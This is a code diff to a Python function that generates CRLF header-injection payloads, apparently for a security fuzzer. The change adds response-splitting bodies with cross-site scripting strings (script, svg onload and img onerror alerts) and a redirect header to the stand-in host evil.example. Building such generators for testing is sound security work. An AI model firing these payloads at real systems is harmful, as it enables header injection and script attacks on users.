@@ -555,12 +555,20 @@ def gen_crlf(rng: random.Random, n: int) -> list[Payload]:
             "Access-Control-Allow-Origin: *", "Refresh: 0; url=https://evil.example/", "Content-Type: text/html"]
     seps = {"crlf": "\r\n", "lf": "\n", "cr": "\r", "enc-crlf": "%0d%0a", "enc-lf": "%0a", "dblenc": "%250d%250a",
             "utf8": "\u560a\u560d", "tab": "\r\n\t"}
+    # Response splitting: after the injected headers, an empty line and a body of the attacker's
+    # choosing (the usual way a CRLF injection becomes an XSS).
+    bodies = ["<script>alert(1)</script>", "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>",
+              "<html><body>injected</body></html>", "HTTP/1.1 200 OK"]
     out = []
     fams = sorted(seps)
     for i in range(n):
         fam = fams[i % len(fams)]
+        sep = seps[fam]
         pre = rng.choice(["", "/", "en", "https://example.com/", "x", "%20"])
-        out.append(Payload("crlf", pre + seps[fam] + rng.choice(hdrs), "gen", f"crlf-{fam}"))
+        s = pre + sep + rng.choice(hdrs)
+        if rng.random() < 0.4:
+            s += sep + sep + rng.choice(bodies)
+        out.append(Payload("crlf", s, "gen", f"crlf-{fam}"))
     return out
 
 
